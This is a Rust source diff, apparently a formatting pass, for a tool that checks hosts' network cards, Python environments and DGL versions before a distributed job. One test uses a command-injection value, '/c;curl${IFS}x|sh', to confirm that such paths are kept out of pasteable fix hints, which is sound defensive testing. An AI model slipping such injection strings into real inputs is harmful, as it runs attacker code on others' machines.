@@ -44,18 +44,22 @@ pub fn answer(host: &Host, python: &Python, probed: Probed) -> Result<Answer, Fa
         return Err(no_environment(host, python, failure));
     }
     let mut warnings = Vec::new();
-    let mut warn = |problem: String, fix: &str| warnings.push(Fault::data(format!("warning: {}", host.place()), problem).fix(fix));
+    let mut warn = |problem: String, fix: &str| {
+        warnings.push(Fault::data(format!("warning: {}", host.place()), problem).fix(fix))
+    };
     let iface = match probed.cards.iter().find(|card| card.address == host.ip.0) {
         Some(card) => Some(card.name.clone()),
         None if probed.cards.is_empty() => {
-            let problem = "its network cards could not be listed, so nobody knows whether DGL finds its address";
+            let problem = "its network cards could not be listed, so nobody knows whether DGL \
+                finds its address";
             warn(problem.to_owned(), "look what `ip addr` says there");
             None
         }
         None => return Err(no_card(host, &probed.cards)),
     };
     let found = probed.python.unwrap_or_default();
-    let name_it = "name the job's Python: --conda ENV, --venv DIR or --python CMD, with --setup where it needs one";
+    let name_it = "name the job's Python: --conda ENV, --venv DIR or --python CMD, with --setup \
+        where it needs one";
     let asked = match (&probed.environment, python) {
         (Some(environment), _) => environment.interpreter.as_str(),
         (None, Python::Command(command)) => command,
@@ -63,18 +67,28 @@ pub fn answer(host: &Host, python: &Python, probed: Probed) -> Result<Answer, Fa
     };
     match (&found.version, &found.dgl) {
         (None, _) => {
-            let why = probed.python_failure.map(|failure| failure.problem).filter(|why| !why.is_empty());
+            let why = probed
+                .python_failure
+                .map(|failure| failure.problem)
+                .filter(|why| !why.is_empty());
             let why = why.map_or(String::new(), |why| format!(": {why}"));
             warn(format!("{asked} does not run there{why}"), name_it);
         }
         (_, None) => {
             let python = found.executable.as_deref().unwrap_or(asked);
-            warn(format!("no dgl in {python}"), &format!("install dgl there, or {name_it}"));
+            warn(
+                format!("no dgl in {python}"),
+                &format!("install dgl there, or {name_it}"),
+            );
         }
         _ => {}
     }
     let (prefix, conda_env, path) = match probed.environment {
-        Some(environment) => (Some(environment.prefix), environment.conda_env, Some(environment.path)),
+        Some(environment) => (
+            Some(environment.prefix),
+            environment.conda_env,
+            Some(environment.path),
+        ),
         None => (None, None, None),
     };
     let facts = Facts {
@@ -86,7 +100,9 @@ pub fn answer(host: &Host, python: &Python, probed: Probed) -> Result<Answer, Fa
         gpus: Some(probed.gpus),
         nofile: probed.nofile,
         master_port: probed.master_port,
-        home: probed.home.map(|home| home.0.to_string_lossy().into_owned()),
+        home: probed
+            .home
+            .map(|home| home.0.to_string_lossy().into_owned()),
         workspace_fs: probed.workspace_fs,
         python: found.version,
         python_path: found.executable,
@@ -99,13 +115,17 @@ pub fn answer(host: &Host, python: &Python, probed: Probed) -> Result<Answer, Fa
     Ok(Answer { facts, warnings })
 }
 
-/// Why there is no such environment. People paste cures, so a host has its word there only in a path that means itself.
+/// Why there is no such environment. People paste cures, so a host has its word there only in a
+/// path that means itself.
 fn no_environment(host: &Host, python: &Python, failure: &EnvironmentFailure) -> Fault {
     const WHICH_THERE_ARE: &str = "conda env list tells there which there are";
-    let with_path = |command: &str, path: &str| match path.starts_with('/') && quote::may_be_pasted(path) {
-        true => format!("{command} {path}"),
-        false => "make the environment there, or name another one with --conda or --venv".to_owned(),
-    };
+    let with_path =
+        |command: &str, path: &str| match path.starts_with('/') && quote::may_be_pasted(path) {
+            true => format!("{command} {path}"),
+            false => {
+                "make the environment there, or name another one with --conda or --venv".to_owned()
+            }
+        };
     let (problem, fix) = match failure {
         EnvironmentFailure::NoSuchFolder { prefix } => {
             let fix = match python {
@@ -114,30 +134,53 @@ fn no_environment(host: &Host, python: &Python, failure: &EnvironmentFailure) ->
             };
             (format!("no such folder: {prefix}"), fix)
         }
-        EnvironmentFailure::IsConda { prefix } => (format!("{prefix} is a conda environment"), with_path("say --conda", prefix)),
-        EnvironmentFailure::NotConda { prefix } => {
-            (format!("{prefix} is no conda environment: it has no conda-meta"), "name a venv with --venv".to_owned())
-        }
+        EnvironmentFailure::IsConda { prefix } => (
+            format!("{prefix} is a conda environment"),
+            with_path("say --conda", prefix),
+        ),
+        EnvironmentFailure::NotConda { prefix } => (
+            format!("{prefix} is no conda environment: it has no conda-meta"),
+            "name a venv with --venv".to_owned(),
+        ),
         EnvironmentFailure::NoSuchName { looked_in } => {
-            let places = if looked_in.is_empty() { "the places where conda usually is".to_owned() } else { looked_in.join(", ") };
+            let places = if looked_in.is_empty() {
+                "the places where conda usually is".to_owned()
+            } else {
+                looked_in.join(", ")
+            };
             let name = match python {
                 Python::Command(name) | Python::Conda(name) | Python::Venv(name) => name,
             };
-            (format!("no conda environment {name} in {places}"), format!("{WHICH_THERE_ARE}; --conda takes a folder too"))
+            (
+                format!("no conda environment {name} in {places}"),
+                format!("{WHICH_THERE_ARE}; --conda takes a folder too"),
+            )
         }
-        EnvironmentFailure::NoInterpreter { prefix } => {
-            (format!("no bin/python3 in {prefix}"), "install Python into it, or name another environment".to_owned())
-        }
+        EnvironmentFailure::NoInterpreter { prefix } => (
+            format!("no bin/python3 in {prefix}"),
+            "install Python into it, or name another environment".to_owned(),
+        ),
     };
     Fault::unreachable(host.place(), problem).fix(fix)
 }
 
 fn no_card(host: &Host, cards: &[Card]) -> Fault {
     let real = cards.iter().filter(|card| card.name != "lo");
-    let real: Vec<String> = real.map(|card| format!("{} {}", card.name, card.address)).collect();
-    let shown = if real.is_empty() { "there is only lo".to_owned() } else { real.join(", ") };
-    let problem = format!("{} is not the first address of a card there ({shown}); DGL would take the host for machine 0", host.ip);
-    let fix = "write the address of its card in ip_config (DGL compares only the first address of each card)";
+    let real: Vec<String> = real
+        .map(|card| format!("{} {}", card.name, card.address))
+        .collect();
+    let shown = if real.is_empty() {
+        "there is only lo".to_owned()
+    } else {
+        real.join(", ")
+    };
+    let problem = format!(
+        "{} is not the first address of a card there ({shown}); DGL would take the host for \
+         machine 0",
+        host.ip
+    );
+    let fix = "write the address of its card in ip_config (DGL compares only the first address of \
+        each card)";
     Fault::unreachable(host.place(), problem).fix(fix)
 }
 
@@ -149,14 +192,31 @@ pub fn versions_differ<'a>(found: impl IntoIterator<Item = (u32, &'a Facts)>) ->
             versions.entry(version).or_default().push(host.to_string());
         }
     }
-    let shown: Vec<String> = versions.iter().map(|(version, hosts)| format!("{version} on host {}", hosts.join(","))).collect();
-    (shown.len() > 1).then(|| format!("the hosts have different versions of dgl: {}", shown.join("; ")))
+    let shown: Vec<String> = versions
+        .iter()
+        .map(|(version, hosts)| format!("{version} on host {}", hosts.join(",")))
+        .collect();
+    (shown.len() > 1).then(|| {
+        format!(
+            "the hosts have different versions of dgl: {}",
+            shown.join("; ")
+        )
+    })
 }
 
 /// What one Python and its environment are: of another look nothing may stay.
-const OF_PYTHON: [&str; 7] = ["python", "python_path", "prefix", "conda_env", "path", "dgl", "torch"];
+const OF_PYTHON: [&str; 7] = [
+    "python",
+    "python_path",
+    "prefix",
+    "conda_env",
+    "path",
+    "dgl",
+    "torch",
+];
 
-/// A host's line with its facts, or with why it cannot be used. What is not known here stays as it was written.
+/// A host's line with its facts, or with why it cannot be used. What is not known here stays as it
+/// was written.
 pub fn rewritten(line: &[u8], outcome: Result<&Facts, &str>) -> Result<Vec<u8>, serde_json::Error> {
     let mut fields: IndexMap<String, Box<RawValue>> = serde_json::from_slice(line)?;
     for name in ["ok", "error"].iter().chain(&OF_PYTHON) {
@@ -164,7 +224,8 @@ pub fn rewritten(line: &[u8], outcome: Result<&Facts, &str>) -> Result<Vec<u8>, 
     }
     match outcome {
         Ok(facts) => {
-            let facts: IndexMap<String, Box<RawValue>> = serde_json::from_str(&serde_json::to_string(facts)?)?;
+            let facts: IndexMap<String, Box<RawValue>> =
+                serde_json::from_str(&serde_json::to_string(facts)?)?;
             fields.extend(facts);
         }
         Err(error) => {
@@ -183,14 +244,29 @@ mod tests {
     use wire::probe::{Environment, Interpreter};
 
     fn host(ip: &str) -> Host {
-        Host { of: 1, ip: IpAddr(ip.parse().unwrap()), port: 30050, ..Host::default() }
+        Host {
+            of: 1,
+            ip: IpAddr(ip.parse().unwrap()),
+            port: 30050,
+            ..Host::default()
+        }
     }
 
     fn probed(cards: &[(&str, &str)], version: Option<&str>, dgl: Option<&str>) -> Probed {
-        let card = |(name, address): &(&str, &str)| Card { name: (*name).to_owned(), address: address.parse().unwrap() };
-        let python =
-            version.map(|version| Interpreter { version: Some(version.to_owned()), dgl: dgl.map(str::to_owned), ..Interpreter::default() });
-        Probed { cards: cards.iter().map(card).collect(), python, ..Probed::default() }
+        let card = |(name, address): &(&str, &str)| Card {
+            name: (*name).to_owned(),
+            address: address.parse().unwrap(),
+        };
+        let python = version.map(|version| Interpreter {
+            version: Some(version.to_owned()),
+            dgl: dgl.map(str::to_owned),
+            ..Interpreter::default()
+        });
+        Probed {
+            cards: cards.iter().map(card).collect(),
+            python,
+            ..Probed::default()
+        }
     }
 
     fn command(word: &str) -> Python {
@@ -203,15 +279,33 @@ mod tests {
         let whole = probed(&cards, Some("3.10.1"), Some("2.1.0"));
         let table: [(&str, Probed, Result<(Option<&str>, usize), &str>); 5] = [
             ("10.77.0.2", whole.clone(), Ok((Some("eth0"), 0))),
-            ("10.0.0.5", whole, Err("10.0.0.5 is not the first address of a card there (eth0 10.77.0.2); DGL would")),
-            ("10.0.0.5", probed(&cards[..1], None, None), Err("(there is only lo)")),
-            ("10.77.0.2", probed(&cards, Some("3.10.1"), None), Ok((Some("eth0"), 1))),
+            (
+                "10.0.0.5",
+                whole,
+                Err(
+                    "10.0.0.5 is not the first address of a card there (eth0 10.77.0.2); DGL would",
+                ),
+            ),
+            (
+                "10.0.0.5",
+                probed(&cards[..1], None, None),
+                Err("(there is only lo)"),
+            ),
+            (
+                "10.77.0.2",
+                probed(&cards, Some("3.10.1"), None),
+                Ok((Some("eth0"), 1)),
+            ),
             ("10.77.0.2", Probed::default(), Ok((None, 2))),
         ];
         for (ip, probed, wanted) in table {
             match (answer(&host(ip), &command("python3"), probed), wanted) {
                 (Ok(got), Ok((iface, warnings))) => {
-                    assert_eq!((got.facts.iface.as_deref(), got.warnings.len()), (iface, warnings), "{got:?}");
+                    assert_eq!(
+                        (got.facts.iface.as_deref(), got.warnings.len()),
+                        (iface, warnings),
+                        "{got:?}"
+                    );
                 }
                 (Err(fault), Err(text)) => assert!(fault.to_string().contains(text), "{fault}"),
                 (got, wanted) => assert!(got.is_ok() == wanted.is_ok(), "{got:?} {wanted:?}"),
@@ -221,21 +315,56 @@ mod tests {
 
     #[test]
     fn an_environment_that_is_not_there_has_a_cure_that_may_be_pasted() {
-        let folder = |prefix: &str| EnvironmentFailure::NoSuchFolder { prefix: prefix.to_owned() };
+        let folder = |prefix: &str| EnvironmentFailure::NoSuchFolder {
+            prefix: prefix.to_owned(),
+        };
         let (venv, conda) = (Python::Venv("~/v".into()), Python::Conda("gnn".into()));
-        let nowhere = EnvironmentFailure::NoSuchName { looked_in: Vec::new() };
-        let is_conda = |prefix: &str| EnvironmentFailure::IsConda { prefix: prefix.to_owned() };
+        let nowhere = EnvironmentFailure::NoSuchName {
+            looked_in: Vec::new(),
+        };
+        let is_conda = |prefix: &str| EnvironmentFailure::IsConda {
+            prefix: prefix.to_owned(),
+        };
         let table = [
-            (&venv, folder("/v"), "no such folder: /v\n  fix: make it there: python3 -m venv /v"),
-            (&venv, is_conda("/c"), "/c is a conda environment\n  fix: say --conda /c"),
-            (&venv, is_conda("/c;curl${IFS}x|sh"), "/c;curl${IFS}x|sh is a conda environment\n  fix: make the environment there, or"),
-            (&conda, folder("/v"), "no such folder: /v\n  fix: conda env list tells"),
-            (&conda, nowhere, "no conda environment gnn in the places where conda usually is\n  fix: conda env list"),
+            (
+                &venv,
+                folder("/v"),
+                "no such folder: /v\n  fix: make it there: python3 -m venv /v",
+            ),
+            (
+                &venv,
+                is_conda("/c"),
+                "/c is a conda environment\n  fix: say --conda /c",
+            ),
+            (
+                &venv,
+                is_conda("/c;curl${IFS}x|sh"),
+                "/c;curl${IFS}x|sh is a conda environment\n  fix: make the environment there, or",
+            ),
+            (
+                &conda,
+                folder("/v"),
+                "no such folder: /v\n  fix: conda env list tells",
+            ),
+            (
+                &conda,
+                nowhere,
+                "no conda environment gnn in the places where conda usually is\n  fix: conda env \
+                 list",
+            ),
         ];
         for (python, failure, text) in table {
-            let probed = Probed { environment_failure: Some(failure), ..Probed::default() };
-            let fault = answer(&host("10.77.0.2"), python, probed).unwrap_err().to_string();
-            assert!(fault.starts_with(&format!("host 0 (10.77.0.2): {text}")), "{fault}");
+            let probed = Probed {
+                environment_failure: Some(failure),
+                ..Probed::default()
+            };
+            let fault = answer(&host("10.77.0.2"), python, probed)
+                .unwrap_err()
+                .to_string();
+            assert!(
+                fault.starts_with(&format!("host 0 (10.77.0.2): {text}")),
+                "{fault}"
+            );
         }
     }
 
@@ -243,45 +372,105 @@ mod tests {
     fn an_interpreter_is_named_by_its_path() {
         let plain = probed(&[("eth0", "10.77.0.2")], Some("3.11.2"), None);
         let with_path = Probed {
-            python: plain.python.clone().map(|python| Interpreter { executable: Some("/usr/bin/python3".into()), ..python }),
+            python: plain.python.clone().map(|python| Interpreter {
+                executable: Some("/usr/bin/python3".into()),
+                ..python
+            }),
             ..plain.clone()
         };
-        let why = Probed { python: None, python_failure: Some(Failure::new("sh: not found")), ..plain.clone() };
-        let environment = Environment { prefix: "/v".into(), interpreter: "/v/bin/python3".into(), conda_env: None, path: "/bin".into() };
-        let in_venv = Probed { python: None, environment: Some(environment), ..plain.clone() };
+        let why = Probed {
+            python: None,
+            python_failure: Some(Failure::new("sh: not found")),
+            ..plain.clone()
+        };
+        let environment = Environment {
+            prefix: "/v".into(),
+            interpreter: "/v/bin/python3".into(),
+            conda_env: None,
+            path: "/bin".into(),
+        };
+        let in_venv = Probed {
+            python: None,
+            environment: Some(environment),
+            ..plain.clone()
+        };
         let table = [
             (with_path, command("python3"), "no dgl in /usr/bin/python3"),
             (plain, command("python3"), "no dgl in python3"),
-            (why, command("/o/python"), "/o/python does not run there: sh: not found"),
-            (in_venv, Python::Venv("/v".into()), "/v/bin/python3 does not run there"),
+            (
+                why,
+                command("/o/python"),
+                "/o/python does not run there: sh: not found",
+            ),
+            (
+                in_venv,
+                Python::Venv("/v".into()),
+                "/v/bin/python3 does not run there",
+            ),
         ];
         for (probed, python, warning) in table {
-            let warnings = answer(&host("10.77.0.2"), &python, probed).unwrap().warnings;
+            let warnings = answer(&host("10.77.0.2"), &python, probed)
+                .unwrap()
+                .warnings;
             assert_eq!(warnings.len(), 1);
-            assert!(warnings[0].to_string().starts_with(&format!("warning: host 0 (10.77.0.2): {warning}\n  fix: ")), "{}", warnings[0]);
+            assert!(
+                warnings[0]
+                    .to_string()
+                    .starts_with(&format!("warning: host 0 (10.77.0.2): {warning}\n  fix: ")),
+                "{}",
+                warnings[0]
+            );
         }
     }
 
     #[test]
     fn lines_keep_what_is_not_known() {
-        let facts = Facts { cpus: Some(8), ..Facts::default() };
+        let facts = Facts {
+            cpus: Some(8),
+            ..Facts::default()
+        };
         let table: [(&str, Result<&Facts, &str>, &str); 4] = [
-            (r#"{"type":"host","id":0,"cpus":2,"prefix":"/v","path":"/bin","dgl":"1"}"#, Ok(&facts), r#"{"type":"host","id":0,"cpus":8}"#),
-            (r#"{"type":"host","x":1.50,"cpus":2,"id":0}"#, Ok(&facts), r#"{"type":"host","x":1.50,"cpus":8,"id":0}"#),
-            (r#"{"type":"host","ok":true,"error":"old","y":[1e400]}"#, Ok(&facts), r#"{"type":"host","y":[1e400],"cpus":8}"#),
-            (r#"{"type":"host","ok":true,"z":"ä"}"#, Err("no"), r#"{"type":"host","z":"ä","ok":false,"error":"no"}"#),
+            (
+                r#"{"type":"host","id":0,"cpus":2,"prefix":"/v","path":"/bin","dgl":"1"}"#,
+                Ok(&facts),
+                r#"{"type":"host","id":0,"cpus":8}"#,
+            ),
+            (
+                r#"{"type":"host","x":1.50,"cpus":2,"id":0}"#,
+                Ok(&facts),
+                r#"{"type":"host","x":1.50,"cpus":8,"id":0}"#,
+            ),
+            (
+                r#"{"type":"host","ok":true,"error":"old","y":[1e400]}"#,
+                Ok(&facts),
+                r#"{"type":"host","y":[1e400],"cpus":8}"#,
+            ),
+            (
+                r#"{"type":"host","ok":true,"z":"ä"}"#,
+                Err("no"),
+                r#"{"type":"host","z":"ä","ok":false,"error":"no"}"#,
+            ),
         ];
         for (line, outcome, wanted) in table {
-            assert_eq!(String::from_utf8(rewritten(line.as_bytes(), outcome).unwrap()).unwrap(), wanted);
+            assert_eq!(
+                String::from_utf8(rewritten(line.as_bytes(), outcome).unwrap()).unwrap(),
+                wanted
+            );
         }
     }
 
     #[test]
     fn different_versions_are_told() {
-        let facts = |version: Option<&str>| Facts { dgl: version.map(str::to_owned), ..Facts::default() };
+        let facts = |version: Option<&str>| Facts {
+            dgl: version.map(str::to_owned),
+            ..Facts::default()
+        };
         let (old, new, none) = (facts(Some("1.0.4")), facts(Some("2.1.0")), facts(None));
         assert_eq!(versions_differ([(0, &old), (1, &old), (2, &none)]), None);
         let told = versions_differ([(0, &old), (1, &new), (2, &old)]).unwrap();
-        assert!(told.ends_with("1.0.4 on host 0,2; 2.1.0 on host 1"), "{told}");
+        assert!(
+            told.ends_with("1.0.4 on host 0,2; 2.1.0 on host 1"),
+            "{told}"
+        );
     }
 }
